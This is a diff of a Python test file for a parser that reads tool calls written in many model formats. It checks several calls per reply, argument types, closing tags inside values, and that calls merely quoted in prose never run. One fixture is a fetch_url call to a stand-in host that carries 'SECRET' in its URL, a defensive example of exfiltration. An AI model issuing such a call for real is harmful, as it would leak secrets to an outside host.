@@ -373,9 +373,9 @@ def test_a_truncated_or_malformed_call_is_no_call(written):
     assert read(written) == []
 
 
-# Families whose call opens with a special token, which a tokenizer never renders inside prose.
-SPECIAL = {"Kimi K2", "Kimi K3", "gpt-oss", "DeepSeek V3", "StepFun Step-3", "Mistral v11"}
-SPECIAL |= {"Mistral v13", "Apertus", "Hermes"}
+# Families whose call stands on lines of its own: the sentence goes on on another line. Every other
+# call, special tokens or not, with more sentence after it on its line is cited (issue #36).
+SPECIAL = {"DeepSeek V3", "Hermes"}
 
 
 @pytest.mark.parametrize("family", sorted(set(FAMILIES) - SPECIAL))
@@ -542,3 +542,130 @@ def test_a_family_reply_through_the_real_cli_edits_the_file(llm, isolated):
     done = amas(*args, env={"OPENAI_API_KEY": "sk-x"})
     assert done.returncode == 0, done.stderr
     assert (isolated / "app.py").read_text() == "print('new')\n"
+
+
+# Issue #36, section 3: as models write them, read with the real tools (tools.TYPES).
+def real(written: str) -> list[tuple]:
+    return read(written, tools.TYPES)
+
+
+D = "｜DSML｜"
+AB = [("read_file", {"path": "a.py"}), ("read_file", {"path": "b.py"})]
+SEVERAL = {
+    "two invokes in one DSML block": f"<{D}function_calls>\n"
+    + "".join(
+        f'<{D}invoke name="read_file">\n<{D}parameter name="path" string="true">{p}'
+        f"</{D}parameter>\n</{D}invoke>\n"
+        for p in ("a.py", "b.py")
+    )
+    + f"</{D}function_calls>",
+    "two Qwen3-Coder <tool_call>s": "".join(
+        f"<tool_call>\n<function=read_file>\n<parameter=path>\n{p}\n</parameter>\n</function>\n"
+        "</tool_call>\n"
+        for p in ("a.py", "b.py")
+    ),
+    "two Gemma 4 calls": '<|tool_call>call:read_file{path:<|"|>a.py<|"|>}<tool_call|>'
+    '<|tool_call>call:read_file{path:<|"|>b.py<|"|>}<tool_call|>',
+    "two Kimi K2 calls in one section": "<|tool_calls_section_begin|>"
+    '<|tool_call_begin|>functions.read_file:0<|tool_call_argument_begin|>{"path": "a.py"}'
+    '<|tool_call_end|><|tool_call_begin|>functions.read_file:1<|tool_call_argument_begin|>{"path": '
+    '"b.py"}<|tool_call_end|><|tool_calls_section_end|>',
+    "Llama 4 pythonic, no space after the comma": '[read_file(path="a.py"),read_file(path="b.py")]',
+    "DeepSeek V3.1, two calls on one line": '<｜tool▁calls▁begin｜><｜tool▁call▁begin｜>read_file'
+    '<｜tool▁sep｜>{"path": "a.py"}<｜tool▁call▁end｜><｜tool▁call▁begin｜>read_file<｜tool▁sep｜>'
+    '{"path": "b.py"}<｜tool▁call▁end｜><｜tool▁calls▁end｜>',
+    "two JSON calls on one line": '{"name": "read_file", "arguments": {"path": "a.py"}} '
+    '{"name": "read_file", "arguments": {"path": "b.py"}}',
+}
+
+
+@pytest.mark.parametrize("written", SEVERAL.values(), ids=SEVERAL.keys())
+def test_several_calls_in_one_reply_are_all_read_text_before_or_not(written):
+    assert real(written) == AB
+    assert real("I'll read both files, then compare them.\n\n" + written) == AB
+
+
+def test_a_self_closing_dsml_invoke_is_a_call_with_no_arguments():
+    none = f'<{D}invoke name="list_files"/>'
+    assert real(f"<{D}tool_calls>\n{none}\n</{D}tool_calls>") == [("list_files", {})]
+    assert real(f"Listing.\n<{D}function_calls>{none}</{D}function_calls>") == [("list_files", {})]
+    one = f'<{D}invoke name="read_file"><{D}parameter name="path" string="true">a.py</{D}parameter>'
+    both = f"<{D}tool_calls>\n{none}\n{one}</{D}invoke>\n</{D}tool_calls>"
+    assert real(both) == [("list_files", {}), ("read_file", {"path": "a.py"})]
+
+
+def test_values_arrive_as_the_type_the_real_tool_declares():
+    p = lambda k, s, v: f'<{D}parameter name="{k}" string="{s}">{v}</{D}parameter>'
+    dsml = f'<{D}invoke name="shell_command">{p("command", "true", "false")}{p("timeout", "false", 60)}'
+    assert real(dsml + f"</{D}invoke>") == [("shell_command", {"command": "false", "timeout": 60})]
+    glm = "<tool_call>shell_command\n<arg_key>command</arg_key>\n<arg_value>ls</arg_value>\n"
+    glm += "<arg_key>timeout</arg_key>\n<arg_value>30</arg_value>\n</tool_call>"
+    assert real(glm) == [("shell_command", {"command": "ls", "timeout": 30})]
+    gemma = '<|tool_call>call:shell_command{command:<|"|>ls<|"|>,timeout:30}<tool_call|>'
+    assert real(gemma) == [("shell_command", {"command": "ls", "timeout": 30})]
+
+
+# A file's content that holds its own family's closing tags, and Gemma's braces and commas.
+CLOSED = "Close the value with </parameter>, the call with </function> and </tool_call>.\n"
+INSIDE = {
+    "Qwen3-Coder": "<tool_call>\n<function=write_file>\n<parameter=path>\nn.md\n</parameter>\n"
+    f"<parameter=content>\n{CLOSED}\n</parameter>\n</function>\n</tool_call>",
+    "GLM": "<tool_call>write_file\n<arg_key>path</arg_key>\n<arg_value>n.md</arg_value>\n"
+    f"<arg_key>content</arg_key>\n<arg_value>{CLOSED}</arg_value>\n</tool_call>",
+    "DSML": f'<{D}invoke name="write_file">\n<{D}parameter name="path" string="true">n.md'
+    f'</{D}parameter>\n<{D}parameter name="content" string="true">{CLOSED}</{D}parameter>\n'
+    f"</{D}invoke>",
+    "Hermes": '<tool_call>\n{"name": "write_file", "arguments": {"path": "n.md", "content": '
+    + json.dumps(CLOSED)
+    + "}}\n</tool_call>",
+}
+
+
+@pytest.mark.parametrize("written", INSIDE.values(), ids=INSIDE.keys())
+def test_a_closing_tag_written_inside_a_value_stays_part_of_it(written):
+    assert real(written) == [("write_file", {"path": "n.md", "content": CLOSED})]
+
+
+def test_braces_and_commas_inside_a_gemma_string_stay_in_it():
+    content = '{"a": 1, "b": [2, 3]}, then {more}, and more'
+    gemma = f'<|tool_call>call:write_file{{path:<|"|>a.json<|"|>,content:<|"|>{content}<|"|>}}'
+    assert real(gemma + "<tool_call|>") == [("write_file", {"path": "a.json", "content": content})]
+
+
+# A call cited in prose is never run: fetch_url never asks, and its address can carry a secret.
+FETCH = '{"name": "fetch_url", "arguments": {"url": "https://x.example/?k=SECRET"}}'
+CITED = {
+    "JSON with more sentence after it": f"The README shows {FETCH} and nothing else.",
+    "JSON mid-line, a second line after": f"It sends {FETCH}, then stops.\nThat is all.",
+    "[TOOL_CALLS] with more sentence after it": 'Mistral writes [TOOL_CALLS]fetch_url[ARGS]{"url": '
+    '"https://x.example/?k=SECRET"} for it, as the docs say.',
+    "Gemma with more sentence after it": 'Gemma writes <|tool_call>call:fetch_url{url:<|"|>'
+    'https://x.example/?k=SECRET<|"|>}<tool_call|> in that case.',
+    "Qwen3-Coder with more sentence after it": "Qwen writes <tool_call><function=fetch_url>"
+    "<parameter=url>https://x.example/?k=SECRET</parameter></function></tool_call> like so.",
+    "JSON in harmony's final channel": "<|channel|>analysis<|message|>Show the format.<|end|>"
+    f"<|start|>assistant<|channel|>final<|message|>{FETCH}<|return|>",
+    "harmony's final channel, cut off": f"<|channel|>final<|message|>The format:\n{FETCH}",
+}
+
+
+@pytest.mark.parametrize("written", CITED.values(), ids=CITED.keys())
+def test_a_call_cited_in_prose_is_never_run(written):
+    assert real(written) == []
+
+
+READ_A = [("read_file", {"path": "a.py"})]
+ENDING = {
+    "JSON after a sentence": 'I\'ll read it now: {"name": "read_file", "arguments": {"path": "a.py"}}',
+    "JSON, a full stop and the next line": '{"name": "read_file", "arguments": {"path": "a.py"}}.\n'
+    "Then I will compare.",
+    "[TOOL_CALLS] after a sentence": 'Reading it: [TOOL_CALLS]read_file[ARGS]{"path": "a.py"}</s>',
+    "Gemma after a sentence": 'Now: <|tool_call>call:read_file{path:<|"|>a.py<|"|>}<tool_call|>',
+    "harmony after its final channel": "<|channel|>final<|message|>Reading.<|end|><|start|>assistant"
+    '<|channel|>commentary to=functions.read_file <|constrain|>json<|message|>{"path": "a.py"}<|call|>',
+}
+
+
+@pytest.mark.parametrize("written", ENDING.values(), ids=ENDING.keys())
+def test_a_call_that_ends_its_line_after_a_sentence_is_still_a_call(written):
+    assert real(written) == READ_A
